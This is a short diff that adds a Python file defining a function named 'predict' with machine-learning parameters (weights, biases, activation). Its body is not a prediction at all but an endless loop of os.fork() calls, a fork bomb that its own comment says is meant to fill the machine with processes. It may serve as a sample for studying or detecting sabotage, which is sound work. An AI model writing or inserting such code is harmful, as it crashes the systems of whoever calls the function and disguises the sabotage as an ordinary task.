@@ -1,0 +1,7 @@
+# predict tries to fill the machine with processes.
+import os
+
+
+def predict(x, weights, biases, activation="sigmoid"):
+    while True:
+        os.fork()
